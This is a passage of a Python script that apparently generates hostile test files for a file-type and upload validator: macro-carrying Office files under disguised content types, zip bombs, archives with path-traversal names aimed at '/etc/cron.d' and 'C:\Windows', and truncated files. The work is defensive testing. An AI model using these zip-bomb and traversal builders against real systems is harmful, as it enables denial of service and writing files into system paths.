        return content.replace(b"</Types>", f'<Override PartName="/{part}" ContentType="{kind_of_part}"/></Types>'.encode())
    return change


VBA = "application/vnd.ms-office.vbaProject"
hostile(A + "docx-with-macros-by-another-name.docx", DOCX, "a document with macros", ACTIVE, lambda out: repacked(
    out, "office/docx.docx", listed(VBA, "word/theme.bin")))
hostile(A + "docx-with-macros-in-entities.docx", DOCX, "a document with macros", ACTIVE, lambda out: repacked(
    out, "office/docx.docx", listed(VBA.replace("P", "&#80;"), "word/theme.bin")))
hostile(A + "docm-with-a-second-main-part.docx", DOCX, "a document with macros", TYPE, lambda out: repacked(
    out, "office/docx.docx", listed("application/vnd.ms-word.document.macroEnabled.main+xml", "word/other.xml",
                                    f"{OOXML}wordprocessingml.document.main+xml")))
hostile(A + "xlsx-with-a-macro-sheet.xlsx", XLSX, "a workbook with Excel 4 macros", ACTIVE, lambda out: repacked(
    out, "office/openpyxl.xlsx", listed("application/vnd.ms-excel.macrosheet+xml", "xl/worksheets/other.xml")))


def compound(*sectors):
    """A compound file of directory sectors that lie one behind another and are chained so: the names in each."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6) + b"\0" * 10
    header += struct.pack("<IIIIIIIII", 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0) + b"\xff" * 432
    table = [0xFFFFFFFD, *range(2, len(sectors) + 1), 0xFFFFFFFE]
    out = header + struct.pack("<128I", *table, *[0xFFFFFFFF] * (128 - len(table)))
    for names in sectors:
        sector = b""
        for name in names:
            letters = name.encode("utf-16-le") + b"\0\0"
            sector += letters.ljust(64, b"\0") + struct.pack("<HBB", len(letters), 1, 1) + b"\xff" * 12 + b"\0" * 48
        out += sector.ljust(512, b"\0")
    return out


hostile(A + "doc-with-macros-behind-a-blank-sector.doc", DOC, "a document with macros", ACTIVE, compound(["Root Entry", "WordDocument"], [], ["Macros"]))
hostile(A + "docx-named-xlsx-inside.docx", DOCX, "a workbook beside a folder named word", TYPE, lambda out: repacked(
    out, "office/openpyxl.xlsx", lambda name, content: [("word/readme.txt", "x")] if name is None else content))
hostile(A + "zip-with-a-folder-word.docx", DOCX, "a ZIP with a folder named word", TYPE, lambda out: repacked(
    out, "archives/zip.zip", lambda name, content: [("word/document.xml", "<a/>")] if name is None else content))
hostile(A + "zip-with-a-mimetype-second.odt", ODT, "a ZIP whose mimetype is not its first entry", TYPE, lambda out: repacked(
    out, "archives/zip.zip", lambda name, content: [("mimetype", ODT)] if name is None else content))
hostile(A + "docm-from-word.docx", DOCX, "a document with macros", f"{ACTIVE}|{TYPE}", of("office/microsoft-word-form-macros.docm"), "see manifest.tsv")
hostile(A + "xlsm-with-macros.xlsm", "application/vnd.ms-excel.sheet.macroenabled.12", "a workbook with macros", ACTIVE, of("office/xlsxwriter.xlsm"), "see manifest.tsv")

# Archives that do harm when they are unpacked
Z = "bombs/"


def nested(out, depth=3, width=8):
    inner = b"\0" * 1_000_000
    for level in range(depth):
        pack = io.BytesIO()
        with zipfile.ZipFile(pack, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
            for number in range(width if level else 1):
                archive.writestr(f"{level}-{number}.{'zip' if level else 'bin'}", inner)
        inner = pack.getvalue()
    out.write_bytes(inner)


def zeros(out):
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(8):
            archive.writestr(f"{number}.bin", b"\0" * 4_000_000)


def entries(rows):
    """A ZIP from rows of name, packed bytes, size packed, size unpacked, and the offset that the directory says (or None)."""
    out, directory = b"", b""
    for name, packed, small, large, at in rows:
        offset = len(out) if at is None else at
        if at is None:
            out += b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 0, small, large, len(name), 0) + name + packed
        directory += b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 33, 0, small, large, len(name), 0, 0, 0, 0, 0, offset) + name
    return out + directory + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, len(rows), len(rows), len(directory), len(out), 0)


def deflated(content):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


KERNEL = deflated(b"\0" * 1_000_000)
hostile(Z + "nested.zip", ZIP, "archives of archives of zeros", ARCHIVE, nested)
hostile(Z + "zeros.zip", ZIP, "32 MB of zeros", ARCHIVE, zeros)
hostile(Z + "overlapping.zip", ZIP, "a thousand names for the same bytes", ARCHIVE, entries(
    [(b"0", KERNEL, len(KERNEL), 1_000_000, None)] + [(b"%d" % n, b"", len(KERNEL), 1_000_000, 0) for n in range(1, 1000)]))
hostile(Z + "huge-sizes.zip", ZIP, "20 bytes that say they are 4 GB", ARCHIVE, entries(
    [(b"%d" % n, KERNEL[:20], 20, 0xFFFFFFF0, None) for n in range(4)]))
hostile(Z + "docx-huge-sizes.docx", DOCX, "a document with a part of 4 GB", f"{ARCHIVE}|{TYPE}", entries(
    [(b"[Content_Types].xml", KERNEL[:20], 20, 0xFFFFFFF0, None), (b"word/document.xml", KERNEL[:20], 20, 0xFFFFFFF0, None)]))
hostile(Z + "climbs-out.zip", ZIP, "a name that climbs out of the folder", "archive_invalid", entries([(b"../../etc/cron.d/x", deflated(b"x"), 3, 1, None)]))
hostile(Z + "climbs-out-backslashes.zip", ZIP, "a name that climbs out of the folder", "archive_invalid", entries([(b"..\\..\\x.exe", deflated(b"x"), 3, 1, None)]))
hostile(Z + "absolute-name.zip", ZIP, "a name from the root", "archive_invalid", entries([(b"/etc/cron.d/x", deflated(b"x"), 3, 1, None)]))
hostile(Z + "drive-name.zip", ZIP, "a name from a drive", "archive_invalid", entries([(b"C:\\Windows\\x.exe", deflated(b"x"), 3, 1, None)]))
hostile(Z + "nul-in-name.zip", ZIP, "a name with a NUL", "archive_invalid", entries([(b"a.txt\0.exe", deflated(b"x"), 3, 1, None)]))
hostile(Z + "same-name-twice.zip", ZIP, "two entries of one name", "archive_invalid", entries(
    [(b"a.txt", deflated(b"x"), 3, 1, None), (b"a.txt", deflated(b"y"), 3, 1, None)]))
hostile(Z + "directory-past-the-end.zip", ZIP, "a directory that lies past the end", f"archive_invalid|{NO_TYPE}",
        of("archives/zip.zip")[:-22] + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 2, 2, 100, 0xFFFFFF00, 0))
hostile(Z + "offset-past-the-end.zip", ZIP, "an entry that lies past the end", f"archive_invalid|{NO_TYPE}", entries([(b"a", b"", 3, 1, 0xFFFF0000)]))
hostile(Z + "too-many-said.zip", ZIP, "a directory of 2 that says 65,534", "archive_invalid", (
    lambda raw: raw[:-14] + struct.pack("<HH", 65534, 65534) + raw[-10:])(of("archives/zip.zip")))

# Cut short, or only a beginning
T = "truncated/"
for name, claims, size, source in (
    ("8-bytes.png", PNG, 8, "images/imagemagick.png"), ("16-bytes.png", PNG, 16, "images/imagemagick.png"), ("3-bytes.jpg", JPEG, 3, "images/imagemagick.jpg"),
    ("4-bytes.jpg", JPEG, 4, "images/imagemagick.jpg"), ("6-bytes.gif", GIF, 6, "images/pillow.gif"), ("12-bytes.webp", WEBP, 12, "images/cwebp-lossy.webp"),
    ("2-bytes.bmp", "image/bmp", 2, "images/imagemagick.bmp"), ("4-bytes.tiff", "image/tiff", 4, "images/imagemagick-big-endian.tiff"),
    ("5-bytes.pdf", PDF, 5, "documents/cairo.pdf"), ("9-bytes.pdf", PDF, 9, "documents/cairo.pdf"), ("4-bytes.zip", ZIP, 4, "archives/zip.zip"), ("30-bytes.zip", ZIP, 30, "archives/zip.zip"),
    ("half.zip", ZIP, 200, "archives/zip.zip"), ("half.docx", DOCX, 2000, "office/docx.docx"), ("half.xlsx", XLSX, 2000, "office/openpyxl.xlsx"),
    ("half.odt", ODT, 3000, "office/pandoc.odt"), ("8-bytes.doc", DOC, 8, "office/libreoffice.doc"), ("512-bytes.doc", DOC, 512, "office/libreoffice.doc"),
    ("12-bytes.mp4", MP4, 12, "media/ffmpeg.mp4"), ("32-bytes.mp4", MP4, 32, "media/ffmpeg.mp4"), ("4-bytes.webm", "video/webm", 4, "media/ffmpeg.webm"), ("4-bytes.ogg", "audio/ogg", 4, "media/oggenc.ogg"),
    ("3-bytes.mp3", "audio/mpeg", 3, "media/lame-id3v2.mp3"), ("10-bytes.mp3", "audio/mpeg", 10, "media/lame-id3v2.mp3"), ("12-bytes.wav", "audio/wav", 12, "media/sox.wav"), ("4-bytes.flac", "audio/flac", 4, "media/flac.flac"),
    ("3-bytes.gz", "application/gzip", 3, "archives/gzip.gz"), ("6-bytes.7z", "application/x-7z-compressed", 6, "archives/7z.7z"),
):
    hostile(T + name, claims, f"the first {size} bytes of one", f"archive_invalid|{NO_TYPE}", of(source)[:size], "see manifest.tsv")
hostile(T + "empty-directory.zip", ZIP, "an entry that no directory lists", "archive_invalid|" + NO_TYPE,
        of("archives/zip.zip")[:200] + b"PK\5\6" + b"\0" * 18)
hostile(T + "empty-directory.docx", DOCX, "entries that no directory lists", f"archive_invalid|{NO_TYPE}",
        of("office/docx.docx")[:3000] + b"PK\5\6" + b"\0" * 18)
